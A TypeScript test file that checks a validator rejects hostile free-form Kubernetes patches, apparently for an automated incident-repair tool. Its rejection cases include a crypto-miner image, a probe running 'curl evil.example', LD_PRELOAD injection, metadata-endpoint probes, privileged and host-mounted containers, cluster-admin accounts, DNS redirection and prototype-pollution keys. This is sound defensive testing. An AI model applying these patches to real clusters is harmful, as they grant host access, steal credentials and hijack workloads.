import { describe, expect, test } from "vitest";
import { judgeFreePatch } from "../../../../src/incident/fix/free-patch.ts";

const podSpec = (spec: object) => ({ spec: { template: { spec } } });
const container = (fields: object) => podSpec({ containers: [{ name: "carts", ...fields }] });
const nested = (depth: number): object => (depth === 0 ? {} : { a: nested(depth - 1) });

type Case = readonly [
  name: string,
  patch: unknown,
  kind?: "CronJob" | "Secret" | "ClusterRoleBinding" | "Pod" | "Node" | "constructor",
];

const hostile: readonly Case[] = [
  ["another image", container({ image: "evil.example/miner:1" })],
  ["a command", container({ command: ["sh", "-c", "id"] })],
  ["arguments", container({ args: ["--insecure"] })],
  ["a variable that loads code", container({ env: [{ name: "LD_PRELOAD", value: "/tmp/x.so" }] })],
  [
    "a variable from a Secret",
    container({ env: [{ name: "A", valueFrom: { secretKeyRef: { name: "s", key: "k" } } }] }),
  ],
  ["all of a Secret", container({ envFrom: [{ secretRef: { name: "s" } }] })],
  ["a command as a probe", container({ livenessProbe: { exec: { command: ["sh", "-c", "curl evil.example"] } } })],
  ["a probe of another host", container({ readinessProbe: { httpGet: { port: 80, host: "169.254.169.254" } } })],
  [
    "a probe that sends headers",
    container({ livenessProbe: { httpGet: { port: 80, httpHeaders: [{ name: "a", value: "b" }] } } }),
  ],
  ["a hook", container({ lifecycle: { postStart: { exec: { command: ["id"] } } } })],
  ["privileges", container({ securityContext: { privileged: true } })],
  ["a mount", container({ volumeMounts: [{ name: "host", mountPath: "/host" }] })],
  ["a device", container({ volumeDevices: [{ name: "d", devicePath: "/dev/sda" }] })],
  ["a graphics card", container({ resources: { limits: { "nvidia.com/gpu": "8" } } })],
  ["a resource claim", container({ resources: { claims: [{ name: "x" }] } })],
  ["an amount that is none", container({ resources: { limits: { memory: "lots" } } })],
  ["a host port", container({ ports: [{ containerPort: 80, hostPort: 80 }] })],
  ["a container that is deleted", podSpec({ containers: [{ name: "carts", $patch: "delete" }] })],
  ["a container without a name", podSpec({ containers: [{ resources: {} }] })],
  ["all containers replaced", podSpec({ $patch: "replace", containers: [{ name: "carts" }] })],
  ["fields taken away by a directive", podSpec({ $retainKeys: ["containers"] })],
  ["list items taken away by a directive", podSpec({ "$deleteFromPrimitiveList/tolerations": ["a"] })],
  ["a directive hidden in an affinity", podSpec({ affinity: { nodeAffinity: { $patch: "replace" } } })],
  ["no containers at all", podSpec({ containers: [] })],
  ["containers as a map", podSpec({ containers: { name: "carts" } })],
  ["containers taken away", podSpec({ containers: null })],
  ["another account", podSpec({ serviceAccountName: "cluster-admin" })],
  ["the account's token", podSpec({ automountServiceAccountToken: true })],
  ["the node's network", podSpec({ hostNetwork: true })],
  ["the node's processes", podSpec({ hostPID: true })],
  ["the node's files", podSpec({ volumes: [{ name: "host", hostPath: { path: "/" } }] })],
  ["a node by name, past the scheduler", podSpec({ nodeName: "control-plane-1" })],
  ["a node of the control plane", podSpec({ nodeSelector: { "node-role.kubernetes.io/control-plane": "" } })],
  [
    "tolerating the control plane",
    podSpec({ tolerations: [{ key: "node-role.kubernetes.io/control-plane", operator: "Exists" }] }),
  ],
  ["tolerating everything", podSpec({ tolerations: [{ operator: "Exists" }] })],
  ["tolerating everything by an empty key", podSpec({ tolerations: [{ key: "", operator: "Exists" }] })],
  ["a priority that evicts others", podSpec({ priorityClassName: "system-node-critical" })],
  ["another scheduler", podSpec({ schedulerName: "mine" })],
  ["another runtime", podSpec({ runtimeClassName: "unconfined" })],
  ["names that resolve elsewhere", podSpec({ hostAliases: [{ ip: "6.6.6.6", hostnames: ["db"] }] })],
  ["another name server", podSpec({ dnsConfig: { nameservers: ["6.6.6.6"] } })],
  ["a debugging container", podSpec({ ephemeralContainers: [{ name: "d" }] })],
  ["a sysctl", podSpec({ securityContext: { sysctls: [{ name: "kernel.x", value: "1" }] } })],
  [
    "annotations of the pods",
    {
      spec: {
        template: {
          metadata: { annotations: { "container.apparmor.security.beta.kubernetes.io/carts": "unconfined" } },
        },
      },
    },
  ],
  ["labels of the pods", { spec: { template: { metadata: { labels: { app: "other" } }, spec: {} } } }],
  ["annotations of the object", { metadata: { annotations: { "kubemend.dev/heal-path": "/x" } }, spec: {} }],
  ["owners", { metadata: { ownerReferences: [] }, spec: {} }],
  ["finalizers", { metadata: { finalizers: ["x/y"] }, spec: {} }],
  ["another object by its name", { metadata: { name: "other" }, spec: {} }],
  ["another kind", { kind: "Secret", spec: {} }],
  ["the number of pods", { spec: { replicas: 0 } }],
  ["the selector", { spec: { selector: { matchLabels: { app: "x" } } } }],
  ["a pause", { spec: { paused: true } }],
  ["a history of nothing, so that nobody can go back", { spec: { revisionHistoryLimit: 0 } }],
  ["a status", { status: { readyReplicas: 9 }, spec: {} }],
  ["a path in a key", { spec: { "template.spec.terminationGracePeriodSeconds": 1 } }],
  ["a key of the prototype", JSON.parse('{"spec":{"__proto__":{"replicas":0}}}')],
  ["a key of the prototype at the top", JSON.parse('{"__proto__":{"spec":{}},"spec":{}}')],
  ["text in place of a map", "spec: {}"],
  ["a list in place of a map", [{ op: "replace", path: "/spec/replicas", value: 0 }]],
  ["nothing", null],
  ["undefined", undefined],
  ["a number out of range", { spec: { minReadySeconds: -1 } }],
  ["a number that is text", { spec: { minReadySeconds: "5" } }],
  ["a surge without end", { spec: { strategy: { rollingUpdate: { maxSurge: "100000%" } } } }],
  ["more than anybody reads", podSpec({ affinity: { a: "x".repeat(20_000) } })],
  ["deeper than anybody reads", podSpec({ affinity: nested(60) })],
  ["a schedule", { spec: { schedule: "* * * * *" } }, "CronJob"],
  [
    "a job's command",
    { spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: "a", command: ["sh"] }] } } } } } },
    "CronJob",
  ],
  ["many jobs at once", { spec: { jobTemplate: { spec: { parallelism: 1_000 } } } }, "CronJob"],
  ["a Secret", { data: { a: "b" } }, "Secret"],
  ["a binding of a role", { subjects: [] }, "ClusterRoleBinding"],
  ["a pod", { spec: {} }, "Pod"],
  ["a node", { spec: { taints: [] } }, "Node"],
  ["a kind named like a property of every object", { spec: {} }, "constructor"],
];

describe("a free-form patch is refused, and the reason says what is wrong, when it brings", () => {
  test.each<Case>(hostile)("%s", (_name, patch, kind) => {
    const verdict = judgeFreePatch(String(kind ?? "Deployment"), patch);
    expect(verdict).toMatchObject({ ok: false, problem: expect.stringMatching(/\S/) });
    if (!verdict.ok) expect(verdict.problem.length).toBeLessThan(800);
  });
});

const fine: readonly Case[] = [
  ["more time to stop", podSpec({ terminationGracePeriodSeconds: 60 })],
  ["more memory", container({ resources: { limits: { memory: "256Mi" }, requests: { memory: "128Mi" } } })],
  ["a gentler probe", container({ livenessProbe: { httpGet: { path: "/health", port: "http" }, timeoutSeconds: 5 } })],
  ["nodes with a label", podSpec({ nodeSelector: { disk: "ssd", old: null } })],
  ["a taint that is tolerated", podSpec({ tolerations: [{ key: "spot", operator: "Exists", effect: "NoSchedule" }] })],
  ["an affinity that is dropped", podSpec({ affinity: null })],
  ["a careful rollout", { spec: { strategy: { rollingUpdate: { maxUnavailable: 0, maxSurge: "25%" } } } }],
  ["one job at a time", { spec: { concurrencyPolicy: "Forbid" } }, "CronJob"],
];

test.each<Case>(fine)("a free-form patch may bring %s", (_name, patch, kind) => {
  expect(judgeFreePatch(String(kind ?? "Deployment"), patch)).toEqual({ ok: true, patch });
});
